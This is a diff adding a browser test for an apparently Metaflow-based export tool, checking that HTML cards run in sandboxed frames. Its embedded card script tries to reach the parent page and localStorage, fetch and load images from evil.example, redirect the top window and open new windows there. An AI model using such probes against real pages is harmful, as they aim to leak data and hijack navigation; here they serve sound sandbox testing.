@@ -6,6 +6,8 @@ import re
 import subprocess
 import sys
 
+import pytest
+
 from attack_strings import MARKUP, PROOF
 from browser import accessibility_problems
 
@@ -87,6 +89,97 @@ def test_a_failed_run_is_sent_as_a_file(project, browser):
     assert export(project, "latest", "-o", "-").stdout.startswith(b"<!DOCTYPE html>")
     assert "no directory" in export(project, "latest", "-o", "none/run.html", code=1).stderr.decode()
     assert "Traceback" not in export(project, "ShardFlow/999", code=1).stderr.decode()
+
+
+DRAWN = """
+from metaflow import card
+
+
+class Drawn(FlowSpec):
+    @card(type="html", id="own")
+    @card(type="blank", id="bokeh")
+    @card(type="blank", id="plotly")
+    @step
+    def start(self):
+        import plotly.graph_objects
+        from bokeh.plotting import figure
+
+        current.card["plotly"].append(plotly.graph_objects.Figure(plotly.graph_objects.Bar(y=[1, 3, 2])))
+        drawing = figure(height=200)
+        drawing.line([1, 2, 3], [1, 3, 2])
+        current.card["bokeh"].append(drawing)
+        self.html = SCRIPT
+        self.next(self.end)
+
+    @step
+    def end(self):
+        pass
+
+
+SCRIPT = '''<!DOCTYPE html><title>own</title><main>waiting</main><button onclick="window.clicked = 1">Click</button>
+<script>
+const said = [];
+const attempt = async (name, what) => {
+  try { await what(); said.push(`${name} worked`); } catch (error) { said.push(`${name} ${error.name}`); }
+};
+(async () => {
+  await attempt("page", () => parent.document.title);
+  await attempt("storage", () => localStorage.length);
+  await attempt("fetch", () => fetch("https://evil.example/fetched"));
+  await attempt("image", () => new Promise((done, fail) => {
+    const image = new Image();
+    image.onload = done;
+    image.onerror = () => fail(new TypeError());
+    image.src = "https://evil.example/image.png";
+  }));
+  await attempt("script", () => new Promise((done, fail) => {
+    const script = document.createElement("script");
+    script.textContent = "window.inserted = 1";
+    document.body.append(script);
+    window.inserted ? done() : fail(new TypeError());
+  }));
+  await attempt("eval", () => eval("1"));
+  await attempt("top", () => { top.location = "https://evil.example/top"; });
+  await attempt("window", () => { if (!open("https://evil.example/window")) throw new TypeError(); });
+  document.querySelector("main").textContent = said.join(", ");
+})();
+</script>'''
+"""
+
+
+def test_scripts_of_cards_run_in_frames_that_reach_nothing(project, browser):
+    for library in ("plotly", "bokeh"):
+        pytest.importorskip(library)
+    project.write(DRAWN)
+    assert project.call("run").code == 0
+    export(project, "latest", "-o", "run.html")
+    page = browser.open(project.path / "run.html", offline=True)
+    title = page.title()
+    for name in ("plotly", "bokeh", "own"):
+        fold = page.locator("summary", has_text=f"Card {name} of start/1")
+        if not fold.locator("..").evaluate("(fold) => fold.open"):
+            fold.click()
+    frame = page.get_by_title("Card plotly of start/1")
+    frame.scroll_into_view_if_needed()
+    frame.content_frame.locator(".plotly .bars path").first.wait_for()
+    frame = page.get_by_title("Card bokeh of start/1")
+    frame.scroll_into_view_if_needed()
+    frame.content_frame.locator("canvas").first.wait_for()
+
+    frame = page.get_by_title("Card own of start/1")
+    frame.scroll_into_view_if_needed()
+    own = frame.content_frame
+    own.get_by_text("window ").wait_for()
+    assert "worked" not in own.locator("main").inner_text()
+    own.locator("button").click()
+    assert own.locator("body").evaluate("() => window.clicked") is None
+    # The last thing that it can try: to lead itself to a place that learns of it.
+    own.locator("body").evaluate("() => { location = 'https://evil.example/self'; }")
+    page.wait_for_timeout(300)
+    assert page.title() == title and page.url.startswith("file:") and len(page.context.pages) == 1
+    # All that went wrong is what the browser did not let the card do.
+    refused = ("Content Security Policy", "sandbox", "ERR_BLOCKED_BY_CSP", "Unsafe attempt", "violates", "violated")
+    browser.problems[:] = [each for each in browser.problems if not any(words in each for words in refused)]
 
 
 def test_the_page_of_a_run_exports_it(project, web_app, browser):
